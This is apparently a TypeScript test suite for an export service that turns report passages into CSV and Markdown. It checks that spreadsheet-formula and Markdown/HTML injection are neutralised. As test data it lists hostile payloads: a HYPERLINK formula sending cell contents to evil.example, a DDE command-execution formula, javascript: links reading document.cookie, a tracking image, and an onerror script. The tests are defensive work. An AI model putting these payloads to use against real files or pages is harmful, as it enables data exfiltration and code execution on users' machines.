// Report text is untrusted: exported as CSV it must never become a spreadsheet formula
// (full-width ＝＋－＠ included), and as Markdown it must not smuggle in table cells, HTML,
// links or images.
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import fc from 'fast-check';
import { exportResults } from '../../services/api/export.js';
import { exportContext } from '../../services/core/export-context.js';
import type { Hit } from '../../services/search/types.js';
import { serverWith } from './support.js';
import { checkProperty } from '../helpers/property.js';

/** RFC 4180 CSV → rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; } else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}

const DANGEROUS = /^[=+\-@\t\r＝＋－＠]/;
const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(1,1)', '\t=1', '\r=1', '=cmd|\' /C calc\'!A0', '"=1"', ',=1', '\n=1',
  '＝HYPERLINK("http://evil.example/","点击")', '＋1+1', '－2+3', '＠SUM(1,1)'];

const hit = (text: string, title = '标题'): Hit => ({
  id: 'x:p1', reportId: '0123456789abcdef', ordinal: 1, section: 'overview', themes: [], score: 1, text, highlights: [], html: text, snippet: text,
  citation: { text, sectionLabel: text, reportTitle: title } as unknown as Hit['citation'],
  report: { id: '0123456789abcdef', title, issuer: text, year: 2020, level: 'township', demo: false,
    region: { province: text, city: null, county: null, township: null, code: null } },
});

/** The context of an export of `q` (the query lands in every CSV row: it must be neutralised too). */
const ctxOf = (q: string) => exportContext({ query: q, filters: '无', sort: '相关度', demo: false, reports: 1 });

describe('CSV export', () => {
  it('neutralises every cell that a spreadsheet would run as a formula', (t) => {
    checkProperty(t, fc.property(fc.oneof(fc.constantFrom(...PAYLOADS), fc.string({ unit: 'binary', maxLength: 40 })), fc.constantFrom(...PAYLOADS), (text, title) => {
      const csv = exportResults([hit(text, title)], 'csv', ctxOf(text)).body;
      assert.ok(csv.startsWith('\ufeff'));
      const rows = parseCsv(csv.slice(1));
      assert.equal(rows.length, 2, JSON.stringify(csv));
      for (const cell of rows[1]!) assert.doesNotMatch(cell, DANGEROUS, JSON.stringify(cell));
      // The text is kept whole, behind the one apostrophe.
      assert.equal(rows[1]![1], DANGEROUS.test(text) ? `'${text}` : text);
    }), { numRuns: 300, seed: 3 });
  });

  it('keeps Markdown rows to one line and their cells closed', () => {
    const md = exportResults([hit('a | b\n<script>alert(1)</script>')], 'md', ctxOf('"q" | <b>')).body;
    assert.doesNotMatch(md, /<script>|<b>/);
    const row = md.trim().split('\n').at(-1)!;
    assert.equal(row.split(/(?<!\\)\|/).length, 6, row);
  });

  it('leaves no link, image, autolink, HTML or emphasis from report text live in Markdown, and keeps the text whole', (t) => {
    const hostile = ['[点此查看](javascript:alert(document.cookie))', '![统计图](http://evil.example/track.png)', '<http://evil.example>',
      '<img src=x onerror=alert(1)>', '[a][1]\n\n[1]: javascript:alert(1)', '**粗体** _斜体_ `代码` ~~删除~~', '\\[转义](x)', '&lt;b&gt;', 'a | b'];
    /** What a Markdown reader shows for a cell: backslash escapes and the three entities undone. */
    const shown = (cell: string) => cell.replace(/\\(.)/g, '$1').replace(/&(lt|gt|amp);/g, (_m, e: string) => ({ lt: '<', gt: '>', amp: '&' })[e]!);
    checkProperty(t, fc.property(fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 30 })), (text) => {
      const md = exportResults([hit(text, text)], 'md', ctxOf(text)).body;
      const row = md.trim().split('\n').at(-1)!;
      const cells = row.split(/(?<!\\)\|/).slice(1, -1).map((c) => c.trim());
      assert.equal(cells.length, 4, row);
      // The last cell is the app's own link to the passage, the query URL-encoded in it.
      assert.equal(cells[3], `[第1段](/reports/0123456789abcdef${text.trim() ? `?${new URLSearchParams({ q: text.trim() })}` : ''}#p1)`);
      // No Markdown syntax character is left bare: each is behind a backslash or an entity.
      for (const cell of cells.slice(1, 3)) assert.doesNotMatch(cell.replace(/\\./g, ''), /[`*_[\]|~<>]|&(?!(lt|gt|amp);)/, cell);
      assert.equal(shown(cells[1]!), text.replace(/\r\n|[\r\n]/g, ' ').trim());
    }), { numRuns: 300, seed: 7 });
    const md = exportResults([hit(hostile[0]!), hit(hostile[1]!)], 'md', ctxOf('')).body;
    assert.ok(md.includes('\\[点此查看\\](javascript:alert(document.cookie))'), md);
    assert.ok(md.includes('!\\[统计图\\](http://evil.example/track.png)'), md);
  });
});

describe('GET /api/export over a report written to attack spreadsheets', () => {
  let dir: string;
  let s: Awaited<ReturnType<typeof serverWith>>;
  before(async () => {
    dir = mkdtempSync(join(tmpdir(), 'gongkai-formula-'));
    writeFileSync(join(dir, 'evil.txt'), `某某镇人民政府2020年政府信息公开工作年度报告
一、总体情况
${PAYLOADS.filter((p) => !/[\t\r\n]/.test(p)).map((p) => `${p} 公式注入测试段落。`).join('\n')}
二、存在的主要问题及改进情况
=1+1 公式注入测试段落。
`);
    s = await serverWith({}, [dir]);
  });
  after(async () => { await s.close(); rmSync(dir, { recursive: true, force: true }); });

  it('serves a CSV file whose cells are all inert', async () => {
    const res = await fetch(`${s.url}/api/export?q=${encodeURIComponent('公式注入测试段落')}&format=csv`);
    assert.equal(res.status, 200);
    assert.match(res.headers.get('content-type') ?? '', /^text\/csv; charset=utf-8/);
    // Named after its query: an ASCII fallback and the UTF-8 name.
    assert.equal(res.headers.get('content-disposition'),
      `attachment; filename="gongkai-_-${new Date().toISOString().slice(0, 10)}.csv"; filename*=UTF-8''${encodeURIComponent(`gongkai-公式注入测试段落-${new Date().toISOString().slice(0, 10)}.csv`)}`);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    const rows = parseCsv((await res.text()).replace(/^\ufeff/, ''));
    assert.ok(rows.length >= 3, `${rows.length} rows`);
    assert.ok(rows.slice(1).some((r) => r[1]!.startsWith("'=")), 'a formula-looking passage is there, neutralised');
    for (const r of rows.slice(1)) for (const cell of r) assert.doesNotMatch(cell, DANGEROUS, cell);
  });
});
